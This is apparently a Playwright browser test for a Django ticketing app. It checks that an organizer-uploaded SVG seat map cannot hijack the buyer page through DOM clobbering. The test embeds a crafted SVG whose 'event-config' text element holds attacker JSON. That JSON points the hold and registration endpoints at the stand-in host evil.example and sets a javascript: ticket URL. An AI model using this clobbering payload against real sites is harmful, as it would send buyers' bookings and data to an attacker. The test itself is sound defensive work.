"""An organizer's SVG that names its elements after the buyer page's own cannot steer the page.

The attack, as reported in issue 10: the upload carries ``<text id="event-config">`` with a
configuration of the attacker's (holds and registrations to an outside host, the ticket link a
``javascript:`` URL). Uploaded through the admin and driven in chromium, the buyer page must
still use the server's configuration, and no request may leave our origin.
"""

import re
from decimal import Decimal

import pytest
from django.contrib.auth.models import Group, Permission
from playwright.sync_api import expect
from seatmap_browser_helpers import chromium, cookies_of, in_thread, on_sale_event, publish

from seatmaps.models import Seat, SeatMap, Venue
from ticketing.models import PriceCategory

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

EVIL = "https://evil.example"
ATTACKER_CONFIG = (
    '{"event": {"id": 1, "title": "x", "mode": "simple", "generalAdmission": false,'
    ' "maxSeats": 6, "holdTtl": 600, "salesOpen": true, "status": "on_sale"},'
    ' "categories": [], "user": {"authenticated": true, "id": 1},'
    f' "loginUrl": "{EVIL}/login", "serverTime": 0,'
    f' "api": {{"holds": "{EVIL}/holds", "hold": "{EVIL}/holds/HOLD",'
    f' "registrations": "{EVIL}/registrations",'
    ' "ticketsPdf": "javascript:fetch(1)//00000000-0000-0000-0000-000000000000"},'
    ' "ws": {"event": "/ws/events/0/", "me": "/ws/me/"},'
    ' "initial": {"seq": 0, "held": [], "sold": []}}'
)
CLOBBERING_SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 320 120">
  <defs><symbol id="chair" viewBox="0 0 10 10"><rect width="10" height="10"/></symbol></defs>
  <text id="event-config" x="4" y="116" font-size="6">{ATTACKER_CONFIG}</text>
  <use href="#chair" x="290" y="90" width="20" height="20"/>
  <g data-section="A">
    <circle data-seat="A-1-1" cx="40" cy="40" r="14"/>
    <circle data-seat="A-1-2" cx="80" cy="40" r="14"/>
    <circle data-seat="A-1-3" cx="120" cy="40" r="14"/>
  </g>
</svg>""".encode()


def organizer_with_admin_rights(make_user):
    """A staff organizer with the Organizers group's permissions (as load_demo sets them)."""
    group, _ = Group.objects.get_or_create(name="Organizers")
    group.permissions.set(
        Permission.objects.filter(content_type__app_label__in=["ticketing", "seatmaps"])
    )
    user = make_user(is_staff=True)
    user.groups.add(group)
    return user


def event_on(organizer, map_name):
    seat_map = SeatMap.objects.get(name=map_name)
    event = on_sale_event(organizer, seat_map, "Clobber Night", "simple", max_seats_per_order=6)
    category = PriceCategory.objects.create(
        event=event, name="Floor", price=Decimal("30.00"), color="#16a34a"
    )
    category.sections.set(seat_map.sections.all())
    seats = list(Seat.objects.filter(seat_map=seat_map).order_by("pk").values_list("pk", flat=True))
    return publish(event), seats


def test_a_clobbering_svg_uploaded_in_the_admin_cannot_steer_the_buyer_page(
    asgi_server, shots, make_user
):
    # given an organizer, a shared venue and a logged-in buyer
    organizer = organizer_with_admin_rights(make_user)
    venue = Venue.objects.create(name="Clobber Hall", city="Bremen")
    buyer = cookies_of(make_user())
    organizer_cookies = cookies_of(organizer)

    with chromium(asgi_server, shots, "clobber") as browser:
        # when the organizer uploads the SVG through the admin
        admin = browser.buyer("organizer", organizer_cookies)
        admin.goto(f"{asgi_server}/admin/seatmaps/seatmap/add/?kind=svg")
        admin.select_option("#id_venue", str(venue.pk))
        admin.fill("#id_name", "Clobber map")
        admin.set_input_files(
            "#id_svg_file",
            files=[{"name": "hall.svg", "mimeType": "image/svg+xml", "buffer": CLOBBERING_SVG}],
        )
        admin.click("input[name=_save]")
        expect(admin.locator("ul.messagelist")).to_contain_text("Imported 3 seats")
        event, seats = in_thread(event_on, organizer, "Clobber map")
        browser.shot(admin, "1-uploaded")

        # and a buyer opens the event page, every request recorded and none let out
        page = browser.buyer("buyer", buyer)
        requests, sockets = [], []
        page.on("request", lambda request: requests.append((request.method, request.url)))
        page.on("websocket", lambda ws: sockets.append(ws.url))
        page.route(
            lambda url: not url.startswith(asgi_server),
            lambda route: route.abort(),
        )
        browser.open_event(page, event.pk, live=False)

        # when the buyer holds two seats and books them
        page.locator(f'#seatmap [data-seat-id="{seats[0]}"]').click()
        page.locator(f'#seatmap [data-seat-id="{seats[1]}"]').click()
        with page.expect_request(lambda request: request.method == "POST") as hold_request:
            page.locator("button#hold-button").click()
        # then the hold goes to our API with the server's prices, not where the upload said
        assert hold_request.value.url == f"{asgi_server}/api/v1/events/{event.pk}/holds/"
        expect(page.locator("#hold-panel")).to_be_visible()
        expect(page.locator("#hold-total")).to_have_text("60.00 EUR")

        # and the map's ids are all in its namespace, and its <use> still finds its symbol
        prefix = f"map{event.seat_map_id}-"
        map_ids = page.eval_on_selector_all("#seatmap [id]", "els => els.map(e => e.id)")
        assert map_ids and all(i.startswith(prefix) for i in map_ids), map_ids
        target = page.eval_on_selector(
            "#seatmap use", "u => u.getAttribute('href') || u.getAttribute('xlink:href')"
        )
        assert target == f"#{prefix}chair"
        assert page.evaluate(f"() => !!document.getElementById('{prefix}chair')")

        # and the live feed is the event's own (the map is live); then the buyer books
        page.wait_for_selector("#seatmap[data-live='live']")
        page.locator("button#book-button").click()
        expect(page.locator("#booking-text")).to_contain_text("Booked!")
        browser.shot(page, "2-booked")

        # and the registration went to our API, the ticket link is the booking's PDF, not a
        # javascript: URL
        link = page.locator("#ticket-link")
        expect(link).to_be_visible()
        expect(link).to_have_attribute(
            "href", re.compile(r"^/api/v1/bookings/[0-9a-f-]+/tickets\.pdf$")
        )
        posts = [url for method, url in requests if method == "POST"]
        assert f"{asgi_server}/api/v1/events/{event.pk}/holds/" in posts
        assert f"{asgi_server}/api/v1/registrations/" in posts
        # and nothing left the origin: no request, no WebSocket
        outside = [url for _, url in requests if not url.startswith(f"{asgi_server}/")]
        assert outside == []
        ws_origin = asgi_server.replace("http://", "ws://")
        assert sockets and all(url.startswith(f"{ws_origin}/ws/") for url in sockets), sockets
